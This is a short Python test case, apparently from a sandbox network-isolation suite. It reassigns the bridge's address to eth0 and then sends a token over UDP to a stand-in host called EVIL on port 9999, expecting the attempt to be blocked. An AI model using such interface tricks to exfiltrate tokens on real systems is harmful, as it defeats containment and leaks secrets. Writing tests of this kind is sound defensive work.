"""
how: the bridge's address for itself
expect: shut
unseen: a plain network would carry it, as it has a way there already
"""

from frames import changed
from land import BRIDGE, EVIL
from sockets import udp


def attempt(token):
    return changed(["address", "add", BRIDGE + "/24", "dev", "eth0"], lambda: udp(EVIL, 9999, token))
